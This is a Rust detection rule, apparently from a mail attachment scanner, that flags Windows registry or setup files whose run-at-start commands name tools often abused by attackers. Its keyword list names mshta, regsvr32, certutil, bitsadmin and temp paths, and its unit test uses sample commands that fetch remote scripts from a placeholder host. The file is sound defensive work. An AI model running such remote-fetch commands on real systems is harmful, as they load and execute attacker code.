//! Settings for the registry, or set-up information, that have Windows run a command: at each start, or in place of what
//! is opened. Administrators hand such settings out by other ways than mail.

use super::{Check, Heuristic, externals};
use crate::artifact::Tree;
use crate::detect::Strength;

pub(super) const RULE: Heuristic = Heuristic {
    id: "settings-file-starts-program",
    strength: Strength::Medium,
    title_en: "The settings file has Windows run a command",
    title_ja: "Windowsの設定ファイルが、命令を実行させようとします",
    attack: &["T1204.002", "T1112", "T1547.001"],
    page: include_str!("../../../docs/rules/settings-file-starts-program.md"),
    check,
};

fn check(tree: &Tree, hit: &mut Check) {
    for (artifact, relation, target) in externals(tree) {
        if relation == "settings-command" && is_telling(target) {
            hit(artifact.id, target.to_string());
        }
    }
}

/// What the commands of attacks name. Programs that are installed name themselves.
const TELLING: &[&str] = &[
    "powershell",
    "pwsh",
    "mshta",
    "wscript",
    "cscript",
    "regsvr32",
    "scrobj",
    "javascript:",
    "vbscript:",
    "script:",
    "http://",
    "https://",
    "certutil",
    "bitsadmin",
    "curl ",
    "cmd /c",
    "cmd.exe /c",
    "%temp%",
    "%appdata%",
    "%public%",
    "\\users\\public\\",
    "\\appdata\\",
    "\\programdata\\",
    "davwwwroot",
];

fn is_telling(command: &str) -> bool {
    let lower = command.to_lowercase();
    TELLING.iter().any(|word| lower.contains(word))
}

#[cfg(test)]
mod tests {
    use super::super::tests::externals as hits;
    use super::*;

    #[test]
    fn borrowed_programs_hit_and_installed_ones_do_not() {
        let strange =
            ["mshta http://a.example/x", "%11%\\scrobj.dll,NI,http://a.example/x.sct", "cmd /c start x"];
        assert_eq!(hits(check, "settings-command", &strange), strange.len());
        assert_eq!(
            hits(check, "settings-command", &["\"C:\\Program Files\\App\\app.exe\" -tray", "%11%\\x.ocx"]),
            0
        );
        assert_eq!(hits(check, "shortcut-url", &strange), 0);
    }
}
